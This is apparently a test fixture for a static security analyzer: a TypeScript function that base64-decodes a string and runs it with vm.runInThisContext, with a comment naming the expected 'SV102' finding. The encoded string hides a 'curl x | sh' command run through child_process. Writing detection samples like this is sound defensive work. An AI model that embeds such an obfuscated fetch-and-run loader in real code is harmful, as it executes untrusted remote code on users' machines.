import vm from "node:vm";

const blob: string = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgeCB8IHNoJyk=";

export function boot(): void {
  vm.runInThisContext(Buffer.from(blob, "base64").toString("utf8")); // want "SV102: .*decoded code that runs a process"
}
